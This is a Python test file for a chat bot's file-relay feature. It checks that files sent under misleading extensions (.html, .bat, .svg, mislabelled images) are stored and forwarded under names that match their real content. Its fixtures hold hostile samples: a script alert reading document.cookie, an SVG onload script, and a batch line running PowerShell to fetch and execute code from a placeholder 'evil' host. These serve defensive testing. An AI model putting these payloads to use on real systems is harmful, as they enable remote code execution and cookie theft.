"""A file's name follows its content: through the whole app (the in-memory console channel), a
text file sent as ``.html``, ``.bat`` or ``.svg`` is stored, announced, listed and relayed as
``.txt``; a JPEG named ``.png`` as ``.jpg``; a PDF named ``.pdf`` keeps its name."""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.files_support import pdf, png, sha, write
from tests.harness import Harness

RID = "R-2026-0001"
PAGE = b"<html><script>alert(document.cookie)</script></html>\n"
BATCH = b'@echo off\r\npowershell -c "iwr http://evil/x | iex"\r\n'
PICTURE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'


def jpeg() -> bytes:
    """Enough of a JPEG for recognition by content (its start of image and JFIF header)."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + os.urandom(900)


def files_sent(bot: Harness, person_id: str) -> list[tuple[str, str]]:
    """(file name, SHA-256 of the bytes as delivered) for each file sent to ``person_id``."""
    return [
        (d.message.attachment.filename, bot.chat.received[d.message.id])
        for d in bot.chat.sent
        if d.message.address == person_id and d.message.attachment is not None
    ]


@pytest.fixture
async def bot(tmp_path: Path, files_key: str) -> AsyncIterator[Harness]:
    harness = await Harness(tmp_path / "bot.db").start()
    yield harness
    await harness.stop()


async def test_text_named_as_a_page_a_program_or_a_picture_travels_as_text(
    bot: Harness, tmp_path: Path
) -> None:
    page = write(tmp_path, "shelter.html", PAGE)
    await bot.say("au-officer", "/request TH #info see files", files=[page])
    for name, body in (("crew-list.bat", BATCH), ("map.svg", PICTURE)):
        answer = await bot.say("au-officer", f"/attach {RID}", files=[write(tmp_path, name, body)])
        assert "1 file added to" in answer[0], answer
    assert await bot.rows("SELECT mime, kind, name FROM request_files ORDER BY n") == [
        ("text/plain", "document", "shelter.txt"),
        ("text/plain", "document", "crew-list.txt"),
        ("text/plain", "document", "map.txt"),
    ]
    assert files_sent(bot, "th-fp") == [
        ("shelter.txt", sha(PAGE)),
        ("crew-list.txt", sha(BATCH)),
        ("map.txt", sha(PICTURE)),
    ]
    notices = [t for t in bot.inbox("th-fp") if "sent a document" in t]
    assert any("sent a document: crew-list.txt (1 KB)." in t for t in notices), notices
    assert not any(".bat" in t or ".html" in t or ".svg" in t for t in bot.inbox("th-fp"))
    shown = (await bot.say("th-fp", f"/show {RID}"))[0]
    assert "2. crew-list.txt · document" in shown and ".bat" not in shown, shown
    again = await bot.say("th-fp", f"/file {RID} 3")
    assert "file 3: map.txt" in again[0], again
    assert files_sent(bot, "th-fp")[-1] == ("map.txt", sha(PICTURE))


async def test_a_name_that_matches_its_content_is_kept_and_one_that_does_not_is_fixed(
    bot: Harness, tmp_path: Path
) -> None:
    scan, photo, picture = pdf(), jpeg(), png()
    await bot.file_request("TH Passport check")
    for name, body in (("scan.pdf", scan), ("photo.png", photo), ("face.PNG", picture)):
        await bot.say("au-officer", f"/attach {RID}", files=[write(tmp_path, name, body)])
    assert await bot.rows("SELECT name, mime FROM request_files ORDER BY n") == [
        ("scan.pdf", "application/pdf"),
        ("photo.jpg", "image/jpeg"),
        ("face.PNG", "image/png"),
    ]
    assert files_sent(bot, "th-fp") == [
        ("scan.pdf", sha(scan)),
        ("photo.jpg", sha(photo)),
        ("face.PNG", sha(picture)),
    ]


async def test_a_file_held_for_its_request_is_named_by_its_content_too(
    bot: Harness, tmp_path: Path
) -> None:
    await bot.file_request("TH Crew list please")
    held = await bot.say("au-officer", "", files=[write(tmp_path, "crew.bat", BATCH)])
    assert "Which request is it for?" in held[0], held
    assert await bot.rows("SELECT name FROM pending_files") == [("crew.txt",)]
    await bot.say("au-officer", f"attach to {RID}")
    assert files_sent(bot, "th-fp") == [("crew.txt", sha(BATCH))]


async def test_a_file_stored_before_under_a_dangerous_name_is_sent_again_as_text(
    bot: Harness, tmp_path: Path
) -> None:
    await bot.say("au-officer", "/request TH Notes", files=[write(tmp_path, "notes.txt", BATCH)])
    # as an earlier version stored it: the sender's name, whatever the content
    assert bot.app is not None
    await bot.app.store.run(
        lambda db: db.execute("UPDATE request_files SET name = 'crew-list.bat'")
    )
    again = await bot.say("th-fp", f"/file {RID} 1")
    assert "file 1: crew-list.txt" in again[0], again
    assert files_sent(bot, "th-fp")[-1] == ("crew-list.txt", sha(BATCH))
